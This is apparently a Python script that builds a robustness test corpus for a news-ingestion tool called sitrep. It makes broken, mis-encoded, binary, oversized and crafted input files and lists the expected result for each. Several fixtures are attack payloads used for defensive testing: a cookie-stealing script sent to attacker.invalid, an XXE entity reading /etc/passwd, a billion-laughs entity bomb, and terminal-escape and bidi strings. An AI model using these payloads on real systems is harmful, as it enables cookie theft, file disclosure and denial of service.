"""Builds the hostile-input corpus: broken, binary, mis-encoded, oversized and crafted files.

`python tests/robustness/make_inputs.py` rewrites the small files in `tests/robustness/inputs/`
(committed; a test fails when they drift from this script). The large ones (a 150,000-character
line, 100,000 nested `<div>`s, 16,000 elements, an 80 MB page) are only built at test time by
`build_large`.

Each case says what sitrep must make of it, per document source (`file`, `file:line` for JSONL,
`file#entry` for feeds): `("doc", phrase)` read and coded with `phrase` in its text,
`("fail", reason)` reported with `reason` in the failure, `("skip", language)` read but not coded
because it is in `language`. The English text is written for this corpus, not taken from news.
"""

from __future__ import annotations

import gzip
import json
import random
import sys
import zlib
from collections.abc import Callable
from pathlib import Path

INPUTS = Path(__file__).resolve().parent / "inputs"

ARTICLE = (
    "Government forces shelled the villages of Kafr Nabl and Maarat al-Numan in southern Idlib "
    "on Friday, killing three civilians, the Syrian Observatory for Human Rights said.\n\n"
    "Clashes broke out on Thursday between Hayat Tahrir al-Sham fighters and government troops "
    "near Saraqib, a local source told the outlet. Two fighters were wounded."
)
HEADED = f"date 2023-12-09 Shelling hits villages in southern Idlib\nBy Example Wire\n\n{ARTICLE}\n"
PHRASE = "shelled the villages of Kafr Nabl"
SMART = (
    "The army\u2019s commander said \u201cthe operation is over\u201d after troops shelled the "
    "villages of Kafr Nabl and Maarat al-Numan in southern Idlib on Friday, killing three."
)
ARABIC = (
    "قصفت قوات النظام السوري بالمدفعية الثقيلة قرى كفرنبل ومعرة النعمان في ريف إدلب الجنوبي "
    "صباح اليوم، ما أدى إلى مقتل ثلاثة مدنيين، بحسب المرصد السوري لحقوق الإنسان."
)
FRENCH = (
    "Les forces gouvernementales ont bombardé vendredi les villages de Kafr Nabl et de Maarat "
    "al-Numan, dans le sud de la province d'Idleb, tuant trois civils, selon l'Observatoire."
)
RUSSIAN = (
    "В пятницу правительственные войска обстреляли деревни Кафр-Набль и Маарат-эн-Нуман на юге "
    "провинции Идлиб, погибли три мирных жителя, сообщила Сирийская обсерватория."
)


def _read_as_cp1252(data: bytes) -> str:
    """What Windows software shows for UTF-8 bytes: cp1252, its five holes kept as C1 controls."""
    return "".join(bytes([b]).decode("cp1252", errors="ignore") or chr(b) for b in data)


def page(body: str, head: str = "<title>Shelling hits villages</title>") -> str:
    return (
        f'<!DOCTYPE html><html><head><meta charset="utf-8">{head}</head><body>{body}</body></html>'
    )


def paragraphs(text: str) -> str:
    return "".join(f"<p>{p}</p>" for p in text.split("\n\n"))


def _feed(items: str, declaration: str = '<?xml version="1.0" encoding="utf-8"?>') -> str:
    return (
        f'{declaration}<rss version="2.0"><channel><title>Example Wire</title>'
        f"<link>https://example.org/</link>{items}</channel></rss>"
    )


def _item(title: str, description: str, date: str = "Sat, 09 Dec 2023 10:00:00 GMT") -> str:
    return (
        f"<item><title>{title}</title>"
        f"<link>https://example.org/{zlib.crc32(title.encode()) % 1000}</link>"
        f"<pubDate>{date}</pubDate><description>{description}</description></item>"
    )


def _jsonl_dump() -> tuple[bytes, dict[str, tuple[str, str]]]:
    good = {"id": "g1", "text": ARTICLE, "published": "2023-12-09", "outlet": "Example Wire"}
    lines: list[tuple[bytes, tuple[str, str] | None]] = [
        (json.dumps(good).encode(), ("doc", PHRASE)),
        (b'{"id": "broken", "text": "Clashes in Aden', ("fail", "invalid JSON")),
        (json.dumps({"id": "n", "text": 42}).encode(), ("fail", "non-empty string field")),
        (
            json.dumps({"id": "t", "text": ARTICLE, "title": ["a", "list"]}).encode(),
            ("fail", "'title' must be a string"),
        ),
        (json.dumps({"id": True, "text": ARTICLE}).encode(), ("fail", "'id' must be")),
        (
            json.dumps({"id": "d", "text": ARTICLE, "published": "2023-13-45"}).encode(),
            ("fail", "not an ISO date"),
        ),
        (
            json.dumps({"id": "p", "text": ARTICLE, "published": 20231209}).encode(),
            ("fail", "ISO date string"),
        ),
        (json.dumps([good]).encode(), ("fail", "expected a JSON object")),
        (b"[" * 5_000 + b"]" * 5_000, ("fail", "nested too deeply")),
        (b"", None),  # blank lines are skipped silently
        (json.dumps({}).encode(), ("fail", "non-empty string field")),
        (json.dumps({"id": "ws", "text": " \n\t "}).encode(), ("fail", "non-empty string field")),
        # U+2028 is legal raw inside a JSON string and must not split the record.
        (
            json.dumps(
                {"id": "ls", "text": "Line one.\u2028" + ARTICLE}, ensure_ascii=False
            ).encode(),
            ("doc", PHRASE),
        ),
        (json.dumps(good).encode(), ("doc", PHRASE)),  # the same record twice: both read
        (json.dumps({"id": "h", "html": page(paragraphs(ARTICLE))}).encode(), ("doc", PHRASE)),
        (json.dumps({"id": "ar", "text": ARABIC}, ensure_ascii=False).encode(), ("skip", "ar")),
        (
            json.dumps({"id": "cp", "text": SMART}, ensure_ascii=False).encode("cp1252"),
            ("doc", "army\u2019s commander"),
        ),
        (
            json.dumps({"id": "nul", "text": "a\x00b"}).encode().replace(b"\\u0000", b"\x00"),
            ("fail", "binary"),
        ),
        # A byte-order mark pasted in mid-file (concatenated dumps) is dropped, not fatal.
        (b"\xef\xbb\xbf" + json.dumps({"id": "bom", "text": ARTICLE}).encode(), ("doc", PHRASE)),
        (b'{"id": "trunc", "text": "' + ARTICLE.encode()[:60], ("fail", "invalid JSON")),
    ]
    expected = {f"dump.jsonl:{n}": e for n, (_, e) in enumerate(lines, start=1) if e}
    return b"\n".join(line for line, _ in lines) + b"\n", expected


def _hostile_metadata() -> tuple[bytes, dict[str, tuple[str, str]]]:
    """Good text with metadata a database refuses: NUL bytes, ids, URLs and titles too long."""
    fields = [
        {"id": "nul-title", "title": "Shelling\u0000 in Idlib"},
        {"id": "nul-url", "url": "https://example.invalid/a\u0000b"},
        {"id": "long-url", "url": "https://example.invalid/" + "a" * 5_000},
        {"id": "x" * 3_000},
        {"id": "long-outlet", "outlet": "O" * 1_000},
        {"id": "nul-id\u0000"},
        {"id": "huge-title", "title": "T" * 5_000},
        {"id": "not-a-url", "url": "javascript alert(1)"},
        {"id": "escape-title", "title": "\u001b]0;pwned\u0007\u001b[31mRed title\u202e"},
    ]
    lines = [
        json.dumps({"text": f"{ARTICLE} (Copy {n}.)", "published": "2023-12-09", **extra})
        for n, extra in enumerate(fields, start=1)
    ]
    expected = {f"hostile-metadata.jsonl:{n}": ("doc", PHRASE) for n in range(1, len(lines) + 1)}
    return "\n".join(lines).encode() + b"\n", expected


def _broken_feed() -> str:
    return _feed(
        _item("Shelling in Idlib", f"&lt;p&gt;{ARTICLE.split(chr(10))[0]}&lt;/p&gt;")
        + _item("Empty", "")
        + _item(
            "Bad date",
            "Clashes broke out near Saraqib on Friday, a local source said.",
            "Caturday, 99 Foo 20233",
        )
        + _item(
            "Broken markup", "<![CDATA[<div><p>Troops shelled <b>Kafr Nabl again near the border]]>"
        )
        + "<item><title>No description at all</title></item>"
    )


def _cases() -> dict[str, tuple[bytes, dict[str, tuple[str, str]]]]:
    """file name → (bytes, {source suffix: expectation}); a bare file name stands for the file."""
    rng = random.Random(20231209)
    nested = "<div>" * 3_000 + paragraphs(ARTICLE) + "</div>" * 3_000
    dump, dump_expected = _jsonl_dump()
    cases: dict[str, tuple[bytes, dict[str, tuple[str, str]] | tuple[str, str]]] = {
        "good-plain.txt": (HEADED.encode(), ("doc", PHRASE)),
        "good-bom-crlf.txt": (
            b"\xef\xbb\xbf" + HEADED.replace("\n", "\r\n").encode(),
            ("doc", PHRASE),
        ),
        "utf16-with-bom.txt": (HEADED.encode("utf-16"), ("doc", PHRASE)),
        "cp1252-smart-quotes.txt": (SMART.encode("cp1252"), ("doc", "army\u2019s commander")),
        "mojibake-utf8-read-as-cp1252.txt": (
            _read_as_cp1252(SMART.encode("utf-8")).encode("utf-8"),
            ("doc", "army\u2019s commander"),
        ),
        "invalid-utf8-byte.txt": (
            HEADED.encode().replace(b"Friday", b"Fri\xffday"),
            ("doc", "Kafr Nabl"),
        ),
        "arabic-cp1256.txt": (ARABIC.encode("cp1256"), ("skip", "ar")),
        "arabic-declared-cp1256.html": (
            page(
                f"<p>{ARABIC}</p>",
                '<meta http-equiv="Content-Type" content="text/html; charset=windows-1256">',
            )
            .replace('<meta charset="utf-8">', "")
            .encode("cp1256"),
            ("skip", "ar"),
        ),
        "french.txt": (FRENCH.encode(), ("skip", "fr")),
        "russian-utf8.html": (
            page(f"<article><p>{RUSSIAN}</p></article>").encode(),
            ("skip", "ru"),
        ),
        "pdf-named.html": (
            b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\n",
            ("fail", "a PDF document"),
        ),
        "png-named.txt": (
            b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + rng.randbytes(200),
            ("fail", "a PNG image"),
        ),
        "docx-named.txt": (
            b"PK\x03\x04\x14\x00\x06\x00" + rng.randbytes(200),
            ("fail", "ZIP archive"),
        ),
        "gzip-named.html": (
            gzip.compress(page(paragraphs(ARTICLE)).encode(), mtime=0),
            ("fail", "gzip"),
        ),
        "random-bytes.txt": (bytes(b or 1 for b in rng.randbytes(4000)), ("fail", "binary")),
        "nul-bytes.txt": (HEADED.encode().replace(b" ", b"\x00"), ("fail", "NUL bytes")),
        "empty.txt": (b"", ("fail", "empty input")),
        "whitespace-only.html": (b" \n\t\r\n  \n", ("fail", "empty input")),
        "boilerplate-only.txt": (
            b"Share this:\nPost a Comment\nNo comments:\n",
            ("fail", "no article text"),
        ),
        "truncated.html": (page(paragraphs(ARTICLE)).encode()[:-60], ("doc", PHRASE)),
        "cut-mid-tag.html": (
            page(paragraphs(ARTICLE)).encode()[: page(paragraphs(ARTICLE)).index("</p>") + 2],
            ("doc", PHRASE),
        ),
        "nested-3000-divs.html": (page(nested).encode(), ("doc", PHRASE)),
        "unclosed-comment.html": (
            page("<!-- " + paragraphs(ARTICLE)).encode(),
            ("fail", "no article text"),
        ),
        "script-only.html": (
            page("<script>var s = '<p>not text</p>';</script><style>p{}</style>").encode(),
            ("fail", "no article text"),
        ),
        "script-injection.html": (
            page(
                paragraphs(ARTICLE) + "<p>&lt;script&gt;alert('text, not code')&lt;/script&gt; "
                "<img src=x onerror=alert(1)> javascript:alert(2)</p>"
                "<script>document.location='https://attacker.invalid/?'+document.cookie</script>"
            ).encode(),
            ("doc", "<script>alert('text, not code')</script>"),
        ),
        "remote-resources.html": (
            page(
                '<img src="https://tracker.invalid/pixel.gif"><iframe src="http://127.0.0.1:9/"></iframe>'
                + paragraphs(ARTICLE),
                '<title>Shelling</title><link rel="stylesheet" href="https://cdn.invalid/x.css">'
                '<script src="https://cdn.invalid/x.js"></script>'
                '<link rel="canonical" href="https://example.invalid/a"><base href="https://example.invalid/">',
            ).encode(),
            ("doc", PHRASE),
        ),
        "html-saved-as.txt": (page(paragraphs(ARTICLE)).encode(), ("doc", PHRASE)),
        "control-and-bidi.txt": (
            (
                "\x1b[31m"
                + HEADED.replace("Kafr", "\u202eKafr\u202c").replace("the ", "the\u200b ")
                + "\x07\x1b[0m"
            ).encode(),
            ("doc", "Kafr Nabl"),
        ),
        "combining-marks.txt": (
            (
                ARTICLE + "\n\n" + "".join(c + "\u0301\u0316\u0334" for c in "Zalgo text here")
            ).encode(),
            ("doc", PHRASE),
        ),
        "bad-header-date.txt": (
            HEADED.replace("2023-12-09", "2023-02-30").encode(),
            ("doc", PHRASE),
        ),
        "keyboard-mash-no-spaces.txt": (
            ("qwertyuiopasdfghjklzxcvbnm" * 400).encode(),
            ("doc", "qwerty"),
        ),
        "numbers-table.txt": (
            b"id,value\n" + b"".join(b"%d,%d\n" % (i, i * i) for i in range(400)),
            ("doc", "399,159201"),
        ),
        "feed-saved-as.txt": (
            _feed(_item("Shelling in Idlib", ARTICLE.split("\n")[0])).encode(),
            {"feed-saved-as.txt#1": ("doc", PHRASE)},
        ),
        "broken-entries.rss": (
            _broken_feed().encode(),
            {
                "broken-entries.rss#1": ("doc", PHRASE),
                "broken-entries.rss#2": ("fail", "feed entry has no text"),
                "broken-entries.rss#3": ("doc", "near Saraqib"),
                "broken-entries.rss#4": ("doc", "Troops shelled Kafr Nabl"),
                "broken-entries.rss#5": ("fail", "feed entry has no text"),
            },
        ),
        "feed-cp1256.xml": (
            _feed(_item("خبر", ARABIC), '<?xml version="1.0" encoding="windows-1256"?>').encode(
                "cp1256"
            ),
            {"feed-cp1256.xml#1": ("skip", "ar")},
        ),
        "not-a-feed.rss": (
            b'<?xml version="1.0"?><rss><channel><item><title>x</ti',
            {"not-a-feed.rss#1": ("fail", "the feed is malformed")},
        ),
        "garbage.rss": (b"<rss <<>> &&& \xff\xfe", ("fail", "not a readable feed")),
        "xxe.rss": (
            (
                '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
                '<rss version="2.0"><channel><title>Example Wire</title>'
                + _item("Leak", f"{ARTICLE.split(chr(10))[0]} &amp;xxe; &xxe;")
                + "</channel></rss>"
            ).encode(),
            {"xxe.rss#1": ("doc", PHRASE)},
        ),
        "billion-laughs.xml": (
            (
                '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa">'
                + "".join(
                    f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8)
                )
                + ']><rss version="2.0"><channel><title>Example Wire</title>'
                + _item("Bomb", f"&i; {ARTICLE.split(chr(10))[0]}")
                + "</channel></rss>"
            ).encode(),
            {"billion-laughs.xml#1": ("doc", PHRASE)},  # the entities stay unexpanded
        ),
        "dump.jsonl": (dump, dump_expected),
        "hostile-metadata.jsonl": _hostile_metadata(),
        "pretty-printed.jsonl": (
            json.dumps({"id": "x", "text": ARTICLE}, indent=2).encode(),
            {f"pretty-printed.jsonl:{n}": ("fail", "invalid JSON") for n in (1, 2, 3, 4)},
        ),
        "blank-lines.jsonl": (b"\n\n   \n", ("fail", "empty input")),
    }
    return {
        name: (data, exp if isinstance(exp, dict) else {name: exp})
        for name, (data, exp) in cases.items()
    }


CASES: dict[str, tuple[bytes, dict[str, tuple[str, str]]]] = _cases()


def _large() -> dict[str, tuple[Callable[[Path], None], dict[str, tuple[str, str]]]]:
    def long_line(path: Path) -> None:
        clause = "and the shelling of the villages of Kafr Nabl continued through the night "
        path.write_text(clause * (150_000 // len(clause) + 1), encoding="utf-8")

    def deep(path: Path) -> None:
        path.write_text(page("<div>" * 100_000 + paragraphs(ARTICLE)), encoding="utf-8")

    def many_elements(path: Path) -> None:
        # Past 15,000 elements trafilatura takes minutes; the reader must not hand it the page.
        path.write_text(page(paragraphs(ARTICLE) + "<i></i>" * 16_000), encoding="utf-8")

    def huge(path: Path) -> None:
        # 80 MB of markup written in 1 MB blocks: the reader must refuse it from its size alone.
        block = ("<div><p>" + "filler text " * 80 + "</p></div>\n").encode()
        chunk = block * (1_000_000 // len(block))
        with path.open("wb") as fh:
            fh.write(page("").split("</body>")[0].encode())
            for _ in range(80):
                fh.write(chunk)
            fh.write(b"</body></html>")

    return {
        "long-line-no-breaks.txt": (long_line, {"long-line-no-breaks.txt": ("doc", "Kafr Nabl")}),
        "nested-100000-divs.html": (deep, {"nested-100000-divs.html": ("doc", PHRASE)}),
        "huge-80mb.html": (huge, {"huge-80mb.html": ("fail", "over the limit")}),
        "many-elements.html": (many_elements, {"many-elements.html": ("doc", PHRASE)}),
    }


LARGE = _large()


def build(dest: Path = INPUTS) -> list[Path]:
    """Write the small files into `dest`; returns their paths."""
    dest.mkdir(parents=True, exist_ok=True)
    written = []
    for name, (data, _) in CASES.items():
        path = dest / name
        path.write_bytes(data)
        written.append(path)
    return written


def build_large(dest: Path) -> list[Path]:
    """Write the large files (never committed) into `dest`; returns their paths."""
    dest.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, (make, _) in LARGE.items():
        make(dest / name)
        paths.append(dest / name)
    return paths


def expectations(large: bool = False) -> dict[str, tuple[str, str]]:
    expected = {k: v for _, exp in CASES.values() for k, v in exp.items()}
    if large:
        expected |= {k: v for _, exp in LARGE.values() for k, v in exp.items()}
    return expected


if __name__ == "__main__":
    for p in build(Path(sys.argv[1]) if len(sys.argv) > 1 else INPUTS):
        print(p)
